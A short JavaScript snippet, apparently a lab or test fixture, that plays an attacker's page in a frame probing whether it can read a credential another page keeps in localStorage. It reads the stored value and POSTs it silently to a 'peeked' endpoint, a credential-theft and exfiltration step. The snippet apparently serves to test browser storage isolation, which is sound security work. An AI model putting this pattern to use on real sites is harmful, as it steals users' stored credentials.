// A page of the attacker's in a frame: what does it find in localStorage where the lab's page keeps its credential?
function found() {
  try {
    return localStorage.getItem(document.documentElement.dataset.key) ?? ''
  } catch {
    return ''
  }
}

await fetch('peeked' + location.search, { method: 'POST', body: found() }).catch(() => {})
